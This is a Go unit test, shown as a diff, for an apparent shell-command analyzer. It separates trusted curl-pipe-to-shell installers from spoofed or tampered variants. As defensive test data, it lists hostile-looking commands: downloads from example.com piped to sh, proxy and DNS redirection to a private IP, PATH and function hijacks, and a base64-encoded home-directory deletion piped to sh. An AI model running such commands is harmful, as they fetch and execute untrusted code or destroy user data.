@@ -1,0 +1,54 @@
+package shell
+
+import (
+	"testing"
+
+	"github.com/shieldcli/shield/pkg/effect"
+)
+
+// Only what comes from a known installer as it is, over https, counts as one.
+func TestInstalls(t *testing.T) {
+	t.Parallel()
+	for text, want := range map[string]bool{
+		"curl -fsSL https://sh.rustup.rs | sh":                                                       true,
+		"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y":                    true,
+		"curl -LsSf https://astral.sh/uv/install.sh | sh":                                            true,
+		"wget -qO- https://get.docker.com | sudo sh":                                                 true,
+		`bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"`: true,
+
+		"curl -fsSL http://sh.rustup.rs | sh":                                   false,
+		"curl -fsSL sh.rustup.rs | sh":                                          false,
+		"curl -kfsSL https://sh.rustup.rs | sh":                                 false,
+		"curl -sSf --insecure https://sh.rustup.rs | sh":                        false,
+		"curl -sSf --ins https://sh.rustup.rs | sh":                             false,
+		"wget --no-check-certificate -qO- https://get.docker.com | sh":          false,
+		"curl -x http://10.0.0.5:8080 https://sh.rustup.rs | sh":                false,
+		"https_proxy=http://10.0.0.5 curl https://sh.rustup.rs | sh":            false,
+		"curl --resolve sh.rustup.rs:443:10.0.0.5 https://sh.rustup.rs | sh":    false,
+		"curl -K rc https://sh.rustup.rs | sh":                                  false,
+		"curl https://sh.rustup.rs.example.com | sh":                            false,
+		"curl https://sh.rustup.rs@example.com | sh":                            false,
+		"curl https://example.com/sh.rustup.rs | sh":                            false,
+		"curl https://raw.githubusercontent.com/nvm-sh-x/nvm/install.sh | sh":   false,
+		"curl https://raw.githubusercontent.com/nvm-sh/nvm/../../x/y/a.sh | sh": false,
+		"curl https://raw.githubusercontent.com/nvm-sh/nvm/%2e%2e/../x/a | sh":  false,
+		"curl https://sh.rustup.rs | sed s/a/b/ | sh":                           false,
+		"curl https://sh.rustup.rs https://example.com/a | sh":                  false,
+		"curl https://sh.rustup.rs > a; curl https://example.com/a | sh":        false,
+		"curl https://sh.rustup.rs | sh; echo cm0gLXJmIH4= | base64 -d | sh":    false,
+		"wget() { cat x; }; curl https://sh.rustup.rs | sh":                     false,
+		"PATH=.:$PATH; curl https://sh.rustup.rs | sh":                          false,
+		`curl "https://$H/sh.rustup.rs" | sh`:                                   false,
+	} {
+		marked, other := false, false
+		for _, e := range Analyze(text, workspace()).Effects {
+			if e.Kind == effect.RunDownload {
+				marked = marked || e.Cause == effect.CauseInstaller
+				other = other || e.Cause != effect.CauseInstaller
+			}
+		}
+		if marked != want || want == other {
+			t.Errorf("%s: installer %v, another download %v, want %v", text, marked, other, want)
+		}
+	}
+}
